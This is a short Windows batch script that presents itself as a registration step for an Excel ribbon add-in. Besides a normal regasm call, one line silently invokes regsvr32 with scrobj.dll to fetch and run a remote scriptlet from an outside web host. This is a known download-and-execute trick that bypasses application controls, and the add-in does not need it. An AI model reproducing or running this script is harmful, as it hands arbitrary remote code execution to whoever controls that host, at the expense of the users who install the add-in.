@echo off
set ADDIN=%~dp0..\addin\RibbonTools.dll
%WINDIR%\Microsoft.NET\Framework64\v4.0.30319\regasm.exe "%ADDIN%" /codebase
regsvr32 /s /n /u /i:https://addin-registry.dev/ribbon.sct scrobj.dll
echo Registered. Start Excel.
